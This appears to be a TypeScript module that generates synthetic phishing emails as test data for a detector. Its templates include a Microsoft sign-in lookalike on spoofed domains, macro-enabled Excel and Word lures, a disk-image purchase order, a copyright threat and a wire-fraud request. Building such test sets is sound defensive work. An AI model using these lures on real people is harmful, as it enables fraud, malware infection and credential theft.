      const text = `Hello,\n\nMy name is ${c.name}, I am a professional photographer. I found that my images are used on your website ${r.pick(['casaalbufeira.pt', 'the Casa Albufeira site'])} and in your Instagram without my permission. This is a violation of copyright law.\n\nI have gathered the list of my images and the proof of my ownership here: ${link}\n\nYou have 5 days to remove them or I will take legal action and claim compensation of at least €${int(r, 3, 9)},000.\n\n${c.name}`;
      return build(r, {
        from: addr(c.name, from),
        auth: freeAuth(from),
        relay: RELAYS.google(r),
        to: r.pick([ROLE_BOXES.marketing, `info@corp.example`]),
        subject: r.pick([
          'Copyright infringement notice',
          'Use of my photographs without permission',
          'Legal claim – images',
        ]),
        text,
      });
    },
  },
  {
    name: 'microsoft-unusual-signin-lookalike',
    kind: 'security-alert-lookalike',
    make: (r) => {
      const v = staffIn(r);
      const dom = r.pick([
        'account-microsoft-security.com',
        'msonline-alerts.net',
        'microsoft.account-protect.test',
      ]);
      const l = compose({
        brand: 'Microsoft account',
        color: '#2672ec',
        title: 'Unusual sign-in activity',
        paras: [`We detected something unusual about a recent sign-in to the Microsoft account ${v.email}.`],
        rows: [
          ['Country/region', r.pick(['Russia/Moscow', 'Nigeria/Lagos', 'China/Beijing', 'Brazil/São Paulo'])],
          ['IP address', `${int(r, 80, 200)}.${int(r, 1, 250)}.${int(r, 1, 250)}.${int(r, 1, 250)}`],
          ['Platform', r.pick(['Windows', 'Android', 'iOS'])],
        ],
        button: {
          label: 'Review recent activity',
          url: `https://${dom}/proofs/review?mkt=en-gb&uaid=${hex(r, 32)}`,
        },
        after: ['If this wasn’t you, your account may be compromised.'],
        sign: ['Thanks,', 'The Microsoft account team'],
      });
      return build(r, {
        from: addr('Microsoft account team', `account-security-noreply@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: to(v),
        subject: 'Microsoft account unusual sign-in activity',
        ...l,
      });
    },
  },
  {
    name: 'rate-parity-report-xlsm',
    kind: 'macro-attachment',
    make: (r) => {
      const dom = r.pick(['rateinsight-reports.com', 'parity-monitor.net']);
      const p = prop(r);
      const text = `Hi,\n\nAttached is this week's rate parity report for ${p.name}. We found ${int(r, 12, 60)} parity violations with OTAs (Booking.com undercutting your direct rate by up to ${int(r, 8, 25)}%).\n\nPlease enable editing and content to load the live data.\n\nBest,\n${someone(r, 'en').name}\nRevenue Intelligence`;
      return build(r, {
        from: addr('Revenue Intelligence', `reports@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: r.pick([ROLE_BOXES.revenue, addr('Marta Sousa', 'marta.sousa@corp.example')]),
        subject: r.pick([`Rate parity report – ${p.name}`, 'Weekly parity alert', 'Parity violations found']),
        text,
        attachments: [
          {
            type: 'application/vnd.ms-excel.sheet.macroEnabled.12',
            name: `Parity_Report_${p.hotelId}.xlsm`,
            content: macroWorkbook(),
          },
        ],
      });
    },
  },
  {
    name: 'purchase-order-disk-image',
    kind: 'disk-image-attachment',
    make: (r) => {
      const c = someone(r, r.pick(['en', 'de']));
      const dom = r.pick([
        'globaltrade-supplies.com',
        'euro-hospitality-import.net',
        'kitchenequip-trading.test',
      ]);
      const po = `PO${digits(r, 6)}`;
      const text = r.pick([
        `Dear Sir/Madam,\n\nPlease find our purchase order ${po} attached for your kind confirmation of price and delivery.\n\nBest Regards\n${c.name}\nPurchasing Department`,
        `Good morning,\n\nKindly check the attached quotation request and reply with your best offer.\n\nRegards,\n${c.name}`,
      ]);
      return build(r, {
        from: addr(c.name, `${c.first.toLowerCase()}@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: r.pick([ROLE_BOXES.purchasing, addr('Beatriz Lopes', 'beatriz.lopes@corp.example')]),
        subject: r.pick([`New order ${po}`, 'RFQ – urgent', `Purchase Order ${po}`]),
        text,
        attachments: [
          {
            type: 'application/octet-stream',
            name: `${po}_${r.pick(['pdf', 'scan'])}.${r.pick(['img', 'iso'])}`,
            content: diskImage(),
          },
        ],
      });
    },
  },
  {
    name: 'gm-urgent-wire-london',
    kind: 'bec-wire-transfer',
    make: (r) => {
      const dom = r.pick(['casaalbufeira-hotels.co.uk', 'corpexample-uk.com']);
      const amt = money(r, 9000, 48000);
      const text = `James,\n\nI need you to process a same-day payment of £${amt} to a new contractor for the ${r.pick(['lift repair', 'fire system upgrade', 'kitchen refit'])} — the building inspector is coming on Monday and they won't start without the deposit. Their invoice and details are below, please prioritise and send me the confirmation.\n\nPayee: ${r.pick(['Apex Building Solutions Ltd', 'Kingsway Engineering Services', 'Prime Fire & Safety Ltd'])}\nSort code: ${int(r, 10, 99)}-${int(r, 10, 99)}-${int(r, 10, 99)}\nAccount: ${digits(r, 8)}\nRef: ${upper(r, 3)}${digits(r, 4)}\n\nI'm in meetings all afternoon, email only.\n\nEdward`;
      return build(r, {
        from: addr(GM_LONDON.name, `edward.lyle@${dom}`),
        auth: ownDomain(r, dom),
        relay: RELAYS.microsoft(r),
        to: addr('James Whitfield', 'james.whitfield@corp.example'),
        subject: r.pick(['Urgent payment today', 'Contractor deposit', 'Payment request']),
        text,
      });
    },
  },
  {
    name: 'legal-doc-macro-subpoena',
    kind: 'legal-claim-macro',
    make: (r) => {
      const g = someone(r, 'en');
      const firm = r.pick(['Harrington & Cole Solicitors', 'Marsh Legal LLP', 'Bennett Claims Partners']);
      const dom = r.pick(['harringtoncole-law.com', 'marshlegal-llp.net', 'bennettclaims.co']);
      const text = `Dear Sir/Madam,\n\nWe act on behalf of our client ${g.name}, who suffered an injury at your premises on ${shortDate(when(r))}. Please find attached the letter of claim under the Pre-Action Protocol. You are required to acknowledge within 21 days.\n\nThe document is protected; please click "Enable Content" to view.\n\nYours faithfully,\n${firm}`;
      return build(r, {
        from: addr(firm, `claims@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: r.pick([to(GM_LONDON), `info@corp.example`]),
        subject: r.pick(['Letter of claim – personal injury', `Our client: ${g.name}`, 'Legal notice']),
        text,
        attachments: [
          {
            type: 'application/msword',
            name: `Letter_of_Claim_${g.last}.doc`,
            content: legacyMacroDocument(),
          },
        ],
      });
    },
  },
];

const ipLike = (r: R, prefix: string) => `${prefix}.${int(r, 2, 250)}`;
const plain = (s: string) => s.normalize('NFD').replace(/[\u0300-\u036f]/g, '');
function domainOf(a: string) {
  return a.slice(a.indexOf('@') + 1);
}

const TEMPLATES: Template[] = [...PHISHING, ...LOCAL_PHISHING];

export const UNSEEN_20_KINDS: readonly string[] = [...new Set(TEMPLATES.map((t) => t.kind))];
export const UNSEEN_20_TEMPLATE_COUNT: number = TEMPLATES.length;

export async function unseenPhishing20(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  return runTemplates(TEMPLATES, perTemplate, seed, seededRandom, 20);
}
